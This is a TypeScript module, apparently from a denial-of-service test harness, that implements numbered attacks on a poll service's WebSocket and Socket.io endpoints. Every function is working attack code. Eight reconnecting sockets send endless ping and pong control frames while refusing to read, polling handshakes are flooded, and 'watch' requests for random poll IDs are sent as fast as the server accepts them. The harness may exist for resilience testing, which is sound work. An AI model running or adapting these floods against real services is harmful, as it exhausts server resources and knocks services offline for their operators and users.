import { randomInt } from 'node:crypto';
import { once } from 'node:events';
import type { Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { WebSocket } from 'ws';
import type { Attack, Attacking } from '../attack.ts';
import { flood } from '../flood.ts';

const SOCKETS = 8;
const PAUSE_MS = 100;

/** A1, on a stream */
export const pingsOnStreams: Attack = (attacking) =>
  useSockets(attacking, `/polls/${attacking.target.poll}/stream`, sendFramesUnread);

/** A1, on Socket.io's own sockets */
export const pingsOnSocketIo: Attack = (attacking) =>
  useSockets(attacking, '/socket.io/?EIO=4&transport=websocket', sendFramesUnread);

/** A5 */
export const pollingHandshakes: Attack = (attacking) =>
  flood(attacking, () => [`${attacking.target.result}/socket.io/?EIO=4&transport=polling`]);

/** A6 */
export const watchesOfRandomPolls: Attack = (attacking) =>
  useSockets(attacking, '/socket.io/?EIO=4&transport=websocket', async (socket) => {
    const connected = once(socket, 'message').then(() => once(socket, 'message'));
    socket.send('40');
    await Promise.race([connected, once(socket, 'close')]);
    for (let id = 0; isOpen(socket); id++) {
      socket.send(`42${id}["watch",${randomInt(1_000_000, 2 ** 31)}]`);
      // as fast as the service reads
      if (id % 20 === 0) await delay(1);
    }
  });

type Use = (socket: WebSocket) => Promise<void>;

/** Opens sockets again and again. */
function useSockets({ target, from, tally }: Attacking, path: string, use: Use): Promise<unknown> {
  const client = async () => {
    for (;;) {
      tally.sent++;
      const socket = new WebSocket(target.result.replace('http', 'ws') + path, { localAddress: from });
      socket.on('error', () => undefined);
      const closed = once(socket, 'close');
      socket.on('open', () => void use(socket));
      await closed;
      tally.refused++;
      await delay(PAUSE_MS);
    }
  };
  return Promise.all(Array.from({ length: SOCKETS }, client));
}

const isOpen = (socket: WebSocket) => socket.readyState === WebSocket.OPEN;

/** Control frames of every kind and fragments, and never reads. */
async function sendFramesUnread(socket: WebSocket): Promise<void> {
  const line = (socket as unknown as { _socket: Socket })._socket;
  line.pause();
  const bytes = Buffer.alloc(125);
  while (isOpen(socket)) {
    for (let count = 0; count < 100 && isOpen(socket); count++) {
      socket.ping(bytes);
      socket.pong(bytes);
    }
    // a reset shows only to those who write
    if (line.destroyed) socket.terminate();
    await delay(10);
  }
  socket.terminate();
}
